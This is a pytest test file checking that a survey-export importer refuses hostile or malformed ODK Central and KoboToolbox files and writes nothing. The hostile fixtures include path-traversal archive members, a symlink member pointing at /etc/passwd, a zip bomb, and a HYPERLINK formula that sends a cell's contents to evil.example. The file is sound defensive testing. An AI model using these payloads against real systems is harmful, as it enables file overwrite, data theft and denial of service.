"""Hostile or wrong exports are refused with a message that says what and where, and nothing is
written: not one assessment, answer, file or record, even for the submissions before the bad
part (the whole export is read through before anything is written)."""

from __future__ import annotations

import json
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook
from tests.submissions.builders import (
    central_headings,
    central_zip,
    kobo_attachments,
    kobo_xlsx,
    submission,
)
from tests.submissions.conftest import NOTHING, written

from selfassess.core.assessment.service import AssessmentService
from selfassess.core.errors import InvalidInput, UserError
from selfassess.core.forms.model import Form
from selfassess.core.store.store import Store
from selfassess.core.submissions.importing import import_submissions


def refusal(service: AssessmentService, form: Form, *files: Path) -> str:
    """The refusal's message, once it is shown that nothing was written."""
    with pytest.raises(UserError) as refused:
        import_submissions(service, form, list(files))
    assert written(service) == NOTHING
    return str(refused.value)


def spoiled(path: Path, form: Form, member: str, body: bytes = b"x") -> Path:
    """A genuine Central export of two submissions, with one more member."""
    submissions = [submission(form, 0), submission(form, 1)]
    return central_zip(path, form, submissions, extra_members={member: body})


@pytest.mark.parametrize(
    "member",
    ["media/../../evil.jpg", "/etc/cron.d/evil", "media\\..\\evil.jpg", "C:/evil.jpg"],
)
def test_a_member_whose_path_escapes_is_refused(
    service: AssessmentService, form: Form, tmp_path: Path, member: str
) -> None:
    message = refusal(service, form, spoiled(tmp_path / "e.zip", form, member))
    assert "points outside the archive; refused" in message


def test_a_link_is_refused(service: AssessmentService, form: Form, tmp_path: Path) -> None:
    export = spoiled(tmp_path / "e.zip", form, "media/x.jpg")
    with zipfile.ZipFile(export, "a") as archive:
        link = zipfile.ZipInfo("media/passwd.jpg")
        link.external_attr = (0o120777 << 16) | 0
        archive.writestr(link, "/etc/passwd")
    assert "is a link; refused" in refusal(service, form, export)


def test_a_photo_larger_than_the_evidence_limit_is_refused(
    service: AssessmentService, form: Form, tmp_path: Path, isolated_home: Path
) -> None:
    (isolated_home / "settings.json").write_text(json.dumps({"evidence_limit_mb": 1}))
    with Store.open(isolated_home) as store:
        limited = AssessmentService(store)
        export = spoiled(tmp_path / "e.zip", form, "media/huge.jpg", b"\xff" * (2 * 1024 * 1024))
        message = refusal(limited, form, export)
    assert "member 'media/huge.jpg' is 2.0 MB, above the limit of 1.0 MB; refused" in message


def test_a_zip_bomb_is_refused(service: AssessmentService, form: Form, tmp_path: Path) -> None:
    export = spoiled(tmp_path / "e.zip", form, "media/bomb.jpg", b"\0" * (20 * 1024 * 1024))
    assert "(a zip bomb?); refused" in refusal(service, form, export)


def test_a_member_twice_is_refused(service: AssessmentService, form: Form, tmp_path: Path) -> None:
    export = spoiled(tmp_path / "e.zip", form, "media/a.jpg")
    with pytest.warns(UserWarning, match="Duplicate name"), zipfile.ZipFile(export, "a") as archive:
        archive.writestr("media/a.jpg", b"another")
    assert "member media/a.jpg appears twice; refused" in refusal(service, form, export)


def test_a_file_that_is_not_a_zip_is_refused(
    service: AssessmentService, form: Form, tmp_path: Path
) -> None:
    fake = tmp_path / "export.zip"
    fake.write_bytes(b"SubmissionDate,KEY\n" * 100)
    assert "is not a zip file" in refusal(service, form, fake)


def test_a_formula_cell_refuses_the_workbook_naming_its_place(
    service: AssessmentService, form: Form, tmp_path: Path
) -> None:
    submissions = [submission(form, 0), submission(form, 1)]
    sheet = kobo_xlsx(tmp_path / "k.xlsx", form, submissions)
    workbook = load_workbook(sheet)
    worksheet = workbook.active
    assert worksheet is not None
    worksheet["F3"] = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    workbook.save(sheet)
    photos = kobo_attachments(tmp_path / "a.zip", submissions)

    message = refusal(service, form, sheet, photos)

    assert f"{sheet}, row 3, column F: a formula" in message
    assert "is not an exported value; refused" in message


def test_a_column_of_another_form_is_named(
    service: AssessmentService, form: Form, tmp_path: Path
) -> None:
    headings = central_headings(form)
    headings[5] = "household-hh_size"
    export = central_zip(tmp_path / "e.zip", form, [submission(form, 0)], headings=headings)

    message = refusal(service, form, export)

    assert "the column 'household-hh_size' is not a question of self-assessment 2.0.0" in message
    assert "another form or version?" in message


def test_a_table_without_an_instance_id_is_refused(
    service: AssessmentService, form: Form, tmp_path: Path
) -> None:
    headings = ["gone" if h in ("meta-instanceID", "KEY") else h for h in central_headings(form)]
    headings = [h for h in headings if h != "gone"]
    export = central_zip(tmp_path / "e.zip", form, [], headings=headings)
    table = export.with_name("rows.csv")
    with zipfile.ZipFile(export) as archive:
        text = archive.read("self-assessment.csv").decode()
    table.write_text(text + ",".join(["x"] * len(headings)) + "\n", encoding="utf-8")

    message = refusal(service, form, table)

    assert "row 2: the submission has no instanceID" in message


def test_a_file_of_another_kind_is_refused(
    service: AssessmentService, form: Form, tmp_path: Path
) -> None:
    other = tmp_path / "export.json"
    other.write_text("{}")
    with pytest.raises(InvalidInput, match=r"an \.xlsx or a \.csv \(KoboToolbox\), not '\.json'"):
        import_submissions(service, form, [other])
